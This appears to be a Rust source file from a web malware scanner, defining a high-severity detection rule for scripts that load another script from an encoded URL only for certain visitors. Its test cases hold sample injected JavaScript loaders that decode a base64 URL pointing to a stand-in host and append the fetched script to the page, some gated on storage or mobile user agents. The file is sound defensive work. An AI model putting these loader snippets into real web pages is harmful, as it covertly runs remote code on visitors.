//! `coded-script-for-some-visitors`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "coded-script-for-some-visitors",
    description: "The script loads another script from an encoded URL, but only for some visitors.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::ScriptFromCoded]),
        one(&[
            Atom::Referrer,
            Atom::Robot,
            Atom::SignedIn,
            Atom::BrowserCheck,
            Atom::Devtools,
            Atom::PageClick,
            Atom::ScriptRemoved,
        ]),
        one(&[Atom::Cookie, Atom::Storage, Atom::Referrer, Atom::SignedIn]),
    ],
    within: 200,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"if(!sessionStorage.k){sessionStorage.k=1;var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==');document.head.appendChild(s).remove()}"#,
            r#"if(!localStorage.getItem('k')&&/Android|iPhone/.test(navigator.userAgent)){var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==');document.head.appendChild(s)}"#,
        ],
        without: &[
            r#"if(!localStorage.getItem('k')&&/Android|iPhone/.test(navigator.userAgent)){var s=document.createElement('script');s.src='https://'+'coded-host.example/a.js';document.head.appendChild(s)}"#,
            r#"var h='coded-host.example';if(document.cookie&&document.referrer){var s=document.createElement('script');s.src='https://'+h+'/a.js'}"#,
        ],
    },
};
